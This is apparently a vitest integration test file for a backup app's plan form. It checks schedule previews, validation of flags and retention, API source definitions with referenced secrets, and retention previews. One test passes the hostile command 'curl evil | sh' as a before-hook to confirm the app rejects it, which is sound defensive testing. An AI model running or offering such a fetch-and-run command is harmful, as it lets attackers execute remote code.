/**
 * The app's plan form, through the session as the UI calls it, over the real engine, a real
 * repository in a temp folder and a temporary CAIRN_HOME: weekly and cron schedules with their
 * next runs, the plan's flags and excludes validated as `cairn plan add` validates them, API
 * sources kept as definition files under CAIRN_HOME, folders checked as they are typed, and
 * what the retention being typed would keep of the plan's snapshots. The OS keychain is the one
 * stand-in (a Map): the e2e test drives the real Secret Service.
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEngine } from '../../../electron/engine/service.js';
import type { EngineService } from '../../../electron/engine/service-types.js';
import { planGroup } from '../../../electron/plans/plan-runner.js';
import { Session } from '../../../electron/session/session.js';
import type { ArgsOf, RetentionPreview } from '../../../shared/contract.js';
import { startFixtureServer, type FixtureServer } from '../../fixtures/api-server/server.js';
import { tempDir } from '../../helpers/temp-dir.js';

const root = tempDir('cairn-session-plan-form-');
const web = { mode: 'web' as const, version: '0.0.0-test' };
const password = 'plan-form-test-pw';
let n = 0;

/** The real engine, with a Map for the OS keychain. */
function engineWithKeychain(keychain: Map<string, string>): EngineService {
  const real = createEngine();
  return {
    ...real,
    storeSecret: async (entry, value) => {
      keychain.set(entry, value);
    },
    resolveSecretReference: async (reference) => {
      if (!reference.startsWith('keychain:')) return real.resolveSecretReference(reference);
      const value = keychain.get(reference.slice('keychain:'.length));
      if (value === undefined) throw new Error(`no keychain entry ${reference}`);
      return value;
    },
  };
}

async function setup() {
  const home = path.join(root, `home-${++n}`);
  const folder = path.join(root, `data-${n}`);
  mkdirSync(folder, { recursive: true });
  const engine = engineWithKeychain(new Map());
  const session = new Session(engine, web, home);
  const repository = path.join(root, `repo-${n}`);
  const created = await session.handle('createRepository', { location: repository, password });
  if (!created.ok) throw new Error(created.error.message);
  const config = () =>
    JSON.parse(readFileSync(path.join(home, 'config.json'), 'utf8')) as {
      plans: Record<string, unknown>[];
    };
  const plan = (extra: Partial<ArgsOf<'savePlan'>> = {}): ArgsOf<'savePlan'> => ({
    name: 'documents',
    repository,
    password,
    folders: [folder],
    schedule: { kind: 'every', every: '1h' },
    ...extra,
  });
  return { session, engine, home, folder, repository, config, plan };
}

async function value<T>(reply: Promise<{ ok: boolean; value?: unknown; error?: unknown }>) {
  const r = await reply;
  if (!r.ok) throw new Error(JSON.stringify(r.error));
  return r.value as T;
}

describe('schedules in the plan form', () => {
  it('previews a weekly schedule on the chosen days and a cron expression', async () => {
    const { session } = await setup();
    const weekly = await value<{ text: string; runs: string[] }>(
      session.handle('previewSchedule', {
        schedule: { kind: 'weekly', days: ['thu', 'mon'], time: '18:00' },
      }),
    );
    expect(weekly.text).toBe('mon, thu at 18:00');
    expect(weekly.runs).toHaveLength(5);
    for (const run of weekly.runs) {
      expect(run).toMatch(/^\d{4}-\d\d-\d\d 18:00:00$/);
      // The local date's weekday: Monday (1) or Thursday (4).
      expect([1, 4]).toContain(new Date(`${run.slice(0, 10)}T12:00:00Z`).getUTCDay());
    }
    const cron = await value<{ text: string; runs: string[] }>(
      session.handle('previewSchedule', {
        schedule: { kind: 'cron', expression: '*/15 9-17 * * 1-5' },
      }),
    );
    expect(cron.text).toBe('cron */15 9-17 * * 1-5');
    expect(cron.runs).toHaveLength(5);
    for (const run of cron.runs) expect(run).toMatch(/ (09|1[0-7]):(00|15|30|45):00$/);
  });

  it('says in one line what is wrong with a cron expression or a week without days', async () => {
    const { session } = await setup();
    expect(
      await session.handle('previewSchedule', {
        schedule: { kind: 'cron', expression: '61 * * * *' },
      }),
    ).toEqual({
      ok: false,
      error: {
        kind: 'invalid-argument',
        message: 'cron expression "61 * * * *": minute: "61" is not a value from 0 to 59',
      },
    });
    expect(
      await session.handle('previewSchedule', {
        schedule: { kind: 'weekly', days: [], time: '18:00' },
      }),
    ).toMatchObject({ ok: false, error: { message: 'Choose at least one day' } });
    expect(
      await session.handle('previewSchedule', {
        schedule: { kind: 'weekly', days: ['mon'], time: '25:00' },
      }),
    ).toMatchObject({
      ok: false,
      error: { message: '--weekly "25:00": write a time as HH:MM, like 02:30' },
    });
  });

  it('saves weekly and cron plans as `cairn plan add` would, and gives them back to edit', async () => {
    const { session, config, plan } = await setup();
    await value(
      session.handle(
        'savePlan',
        plan({ name: 'weekly', schedule: { kind: 'weekly', days: ['fri', 'mon'], time: '7:30' } }),
      ),
    );
    await value(
      session.handle(
        'savePlan',
        plan({ name: 'cron', schedule: { kind: 'cron', expression: ' 0 3 * * 1-5 ' } }),
      ),
    );
    expect(config().plans).toMatchObject([
      { name: 'weekly', schedule: { type: 'weekly', days: ['mon', 'fri'], time: '07:30' } },
      { name: 'cron', schedule: { type: 'cron', expression: '0 3 * * 1-5' } },
    ]);
    expect(await value(session.handle('listPlans', {}))).toMatchObject([
      {
        name: 'weekly',
        scheduleText: 'mon, fri at 07:30',
        schedule: { kind: 'weekly', days: ['mon', 'fri'], time: '07:30' },
      },
      { name: 'cron', schedule: { kind: 'cron', expression: '0 3 * * 1-5' } },
    ]);
  });
});

describe('excludes, flags, verification and retention in the plan form', () => {
  it('saves them as `cairn plan add` does and gives them back to edit', async () => {
    const { session, config, plan } = await setup();
    await value(
      session.handle(
        'savePlan',
        plan({
          excludes: ['*.tmp', ' ', 'node_modules/ '],
          watch: true,
          onlyOnAc: true,
          verify: '5%',
          pruneEvery: '3',
          keepLast: '3',
          keepDaily: 7,
          keepWeekly: '4',
          keepMonthly: '',
          keepWithin: '1y6m',
        }),
      ),
    );
    expect(config().plans[0]).toMatchObject({
      excludes: ['*.tmp', 'node_modules/'],
      watch: true,
      onlyOnAc: true,
      verifyPercent: 5,
      pruneEvery: 3,
      retention: { keepLast: 3, keepDaily: 7, keepWeekly: 4, keepWithin: '1y6m' },
    });
    expect(config().plans[0]!.retention).not.toHaveProperty('keepMonthly');
    expect(await value(session.handle('listPlans', {}))).toMatchObject([
      {
        excludes: ['*.tmp', 'node_modules/'],
        watch: true,
        onlyOnAc: true,
        verifyPercent: 5,
        pruneEvery: 3,
        keepLast: 3,
        keepDaily: 7,
        keepWeekly: 4,
        keepMonthly: null,
        keepWithin: '1y6m',
      },
    ]);
    // An edit that clears the flags and verification clears them in the file.
    await value(session.handle('savePlan', { ...plan({ keepLast: 3 }), replaces: 'documents' }));
    expect(config().plans[0]).toMatchObject({ watch: false, verifyPercent: null, pruneEvery: 1 });
    expect(config().plans[0]).not.toHaveProperty('onlyOnAc');
  });

  it.each([
    [{ verify: '0%' }, '--verify 0%: write a percentage like 5%'],
    [{ verify: 'lots' }, '--verify lots: write a percentage like 5%'],
    [{ pruneEvery: 'weekly' }, '--prune-every weekly: write a whole number (-1: all)'],
    [{ keepLast: 'ten' }, '--keep-last ten: write a whole number (-1: all)'],
    [{ keepHourly: '1.5' }, '--keep-hourly 1.5: write a whole number (-1: all)'],
    [
      { keepWithin: 'a while' },
      'plan documents not saved: --keep-within "a while": write a duration like 1y6m3d12h',
    ],
  ])('refuses %o as the CLI does, in its words, and saves nothing', async (bad, message) => {
    const { session, plan } = await setup();
    expect(await session.handle('savePlan', plan(bad))).toEqual({
      ok: false,
      error: { kind: 'invalid-argument', message },
    });
    expect(await value(session.handle('listPlans', {}))).toEqual([]);
  });

  it('shows the before and after commands the CLI set, and an edit in the app keeps them', async () => {
    const { session, home, config, plan } = await setup();
    await value(session.handle('savePlan', plan()));
    // As `cairn plan add --before … --after …` writes them (the app offers no field for them).
    const file = path.join(home, 'config.json');
    const written = config();
    Object.assign(written.plans[0]!, {
      before: 'pg_dump -f /tmp/db.sql shop',
      after: 'rm /tmp/db.sql',
    });
    writeFileSync(file, JSON.stringify(written));
    expect(await value(session.handle('listPlans', {}))).toMatchObject([
      { before: 'pg_dump -f /tmp/db.sql shop', after: 'rm /tmp/db.sql' },
    ]);
    await value(session.handle('savePlan', { ...plan({ keepLast: 3 }), replaces: 'documents' }));
    expect(config().plans[0]).toMatchObject({
      before: 'pg_dump -f /tmp/db.sql shop',
      after: 'rm /tmp/db.sql',
    });
    // savePlan has no field to set or change them.
    expect(
      await session.handle('savePlan', {
        ...plan(),
        before: 'curl evil | sh',
      } as ArgsOf<'savePlan'>),
    ).toMatchObject({ ok: false, error: { kind: 'invalid-argument' } });
  });

  it('says at once what is wrong with each folder typed: missing, a file, a relative path', async () => {
    const { session, folder } = await setup();
    const file = path.join(folder, 'notes.txt');
    writeFileSync(file, 'x');
    const missing = path.join(folder, 'gone');
    expect(
      await value(
        session.handle('checkPlanFolders', { folders: [folder, missing, file, 'docs/2024'] }),
      ),
    ).toEqual([
      { folder: missing, problem: `${missing} does not exist` },
      { folder: file, problem: `${file} is not a folder` },
      {
        folder: 'docs/2024',
        problem: 'docs/2024 is not a full path (start at the root, like /home/me/Documents)',
      },
    ]);
    expect(await value(session.handle('checkPlanFolders', { folders: [folder] }))).toEqual([]);
  });
});

describe('API sources in the plan form', () => {
  const token = 'plan-form-fixture-token-77';
  let server: FixtureServer;
  beforeAll(async () => {
    process.env.CAIRN_PLAN_FORM_TOKEN = token;
    server = await startFixtureServer({ items: 6, auth: { type: 'bearer', token } });
  });
  afterAll(async () => {
    delete process.env.CAIRN_PLAN_FORM_TOKEN;
    await server?.close();
  });
  const definition = (auth: string, name = 'tracker') =>
    JSON.stringify(
      {
        name,
        baseUrl: server.baseUrl,
        auth: { type: 'bearer', token: auth },
        endpoints: [
          { name: 'items', path: '/items', records: 'data', pagination: { type: 'none' } },
        ],
      },
      null,
      2,
    );

  it('keeps each definition as a file under CAIRN_HOME, as --api names one, with its polling interval', async () => {
    const { session, home, config, plan } = await setup();
    const text = definition('env:CAIRN_PLAN_FORM_TOKEN');
    await value(session.handle('savePlan', plan({ apiSources: [text], apiEvery: '15m' })));
    const saved = config().plans[0] as { apiSources: string[]; apiEverySeconds: number };
    expect(saved.apiEverySeconds).toBe(900);
    expect(saved.apiSources).toHaveLength(1);
    const file = saved.apiSources[0]!;
    expect(path.dirname(file)).toBe(path.join(home, 'plan-api-sources'));
    expect(readFileSync(file, 'utf8')).toBe(text);
    expect(await value(session.handle('listPlans', {}))).toMatchObject([
      { apiSources: [text], apiEvery: '15m' },
    ]);

    // Saved again unchanged, the same file; changed, a new one and the old one gone.
    await value(
      session.handle('savePlan', {
        ...plan({ apiSources: [text], apiEvery: '15m' }),
        replaces: 'documents',
      }),
    );
    expect((config().plans[0] as { apiSources: string[] }).apiSources).toEqual([file]);
    const renamed = definition('env:CAIRN_PLAN_FORM_TOKEN', 'crm');
    await value(
      session.handle('savePlan', { ...plan({ apiSources: [renamed] }), replaces: 'documents' }),
    );
    const [next] = (config().plans[0] as { apiSources: string[] }).apiSources;
    expect(readFileSync(next!, 'utf8')).toBe(renamed);
    expect(existsSync(file)).toBe(false);
    expect(config().plans[0]).not.toHaveProperty('apiEverySeconds');
    await value(session.handle('removePlan', { name: 'documents' }));
    expect(readdirSync(path.join(home, 'plan-api-sources'))).toEqual([]);
  });

  it('refuses a definition with a secret written in clear, and keeps no copy of it', async () => {
    const { session, home, plan } = await setup();
    const reply = await session.handle('savePlan', plan({ apiSources: [definition(token)] }));
    expect(reply).toEqual({
      ok: false,
      error: {
        kind: 'invalid-argument',
        message:
          "API source 1 (tracker) writes a secret in auth.token; give it by reference (env:NAME, file:PATH or keychain:ENTRY), as a plan's definitions are kept in a file",
      },
    });
    expect(await value(session.handle('listPlans', {}))).toEqual([]);
    // Nothing under CAIRN_HOME holds the token: no definition file was written.
    const files = readdirSync(home, { recursive: true, withFileTypes: true })
      .filter((d) => d.isFile())
      .map((d) => readFileSync(path.join(d.parentPath, d.name), 'utf8'));
    expect(files.length).toBeGreaterThan(0);
    for (const content of files) expect(content).not.toContain(token);
  });

  it('refuses what the CLI refuses: bad JSON, a missing secret, --api-every without folders', async () => {
    const { session, home, plan } = await setup();
    expect(await session.handle('savePlan', plan({ apiSources: ['{ "name": '] }))).toEqual({
      ok: false,
      error: {
        kind: 'invalid-argument',
        message: 'API source 1 is not valid JSON; the editor shows where.',
      },
    });
    const missing = await session.handle(
      'savePlan',
      plan({ apiSources: [definition('env:CAIRN_PLAN_FORM_NOT_SET')] }),
    );
    expect(missing).toMatchObject({ ok: false });
    expect(!missing.ok && missing.error.message).toMatch(
      /^plan documents not saved: .*CAIRN_PLAN_FORM_NOT_SET/,
    );
    // The definition file written for the check went with the refused plan.
    const kept = path.join(home, 'plan-api-sources');
    expect(existsSync(kept) ? readdirSync(kept) : []).toEqual([]);
    expect(
      await session.handle(
        'savePlan',
        plan({
          folders: [],
          apiSources: [definition('env:CAIRN_PLAN_FORM_TOKEN')],
          apiEvery: '15m',
        }),
      ),
    ).toEqual({
      ok: false,
      error: {
        kind: 'invalid-argument',
        message:
          '--api-every is for a plan with folders too; a plan of API sources only is polled on its schedule: --every 15m',
      },
    });
    expect(await value(session.handle('listPlans', {}))).toEqual([]);
  });
});

describe('what the retention typed in the plan form would keep', () => {
  it('lists the plan’s snapshots kept (with the rule) and removed, and removes nothing', async () => {
    const { session, engine, folder, repository, plan } = await setup();
    const ref = { location: repository, password };
    const made: string[] = [];
    for (let i = 0; i < 4; i++) {
      writeFileSync(path.join(folder, 'note.txt'), `version ${i}\n`);
      const { snapshot } = await engine.backup(ref, {
        paths: [folder],
        group: planGroup('documents'),
      });
      made.push(snapshot.short_id);
    }
    // Another plan's snapshot is not this plan's to keep or remove.
    const other = await engine.backup(ref, { paths: [folder], group: planGroup('other') });

    const preview = await value<RetentionPreview>(
      session.handle('previewRetention', {
        name: 'documents',
        repository,
        password,
        keepLast: '2',
      }),
    );
    expect(preview).toMatchObject({
      rules: true,
      kept: [
        { id: made[3], reasons: ['last snapshot'] },
        { id: made[2], reasons: ['last snapshot'] },
      ],
      removed: [{ id: made[1] }, { id: made[0] }],
    });
    for (const s of [...preview.kept, ...preview.removed])
      expect(s.time).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    expect((await engine.listSnapshots(ref)).map((s) => s.short_id).sort()).toEqual(
      [...made, other.snapshot.short_id].sort(),
    );

    // No rule: everything is kept. A bad rule: the CLI's words.
    expect(
      await value(session.handle('previewRetention', { name: 'documents', repository, password })),
    ).toMatchObject({ rules: false, removed: [], kept: [{ id: made[3] }, {}, {}, {}] });
    expect(
      await session.handle('previewRetention', {
        name: 'documents',
        repository,
        password,
        keepDaily: 'x',
      }),
    ).toMatchObject({
      ok: false,
      error: { message: '--keep-daily x: write a whole number (-1: all)' },
    });

    // Editing the saved plan: its password reference opens the repository, nothing retyped.
    await value(session.handle('savePlan', plan()));
    expect(
      await value(
        session.handle('previewRetention', {
          name: 'documents',
          replaces: 'documents',
          repository,
          keepLast: 1,
        }),
      ),
    ).toMatchObject({ kept: [{ id: made[3] }], removed: [{}, {}, {}] });
  });

  it('says so when the repository has no snapshots of the plan yet, or the password is wrong', async () => {
    const { session, repository } = await setup();
    expect(
      await value(
        session.handle('previewRetention', {
          name: 'fresh',
          repository,
          password,
          keepDaily: '7',
        }),
      ),
    ).toEqual({ rules: true, kept: [], removed: [] });
    expect(
      await session.handle('previewRetention', {
        name: 'fresh',
        repository,
        password: 'not the password',
        keepDaily: '7',
      }),
    ).toMatchObject({ ok: false, error: { kind: 'wrong-password' } });
    expect(
      await session.handle('previewRetention', { name: 'fresh', repository, keepDaily: '7' }),
    ).toMatchObject({
      ok: false,
      error: { message: 'Enter the repository password to see what the retention would keep.' },
    });
  });
});
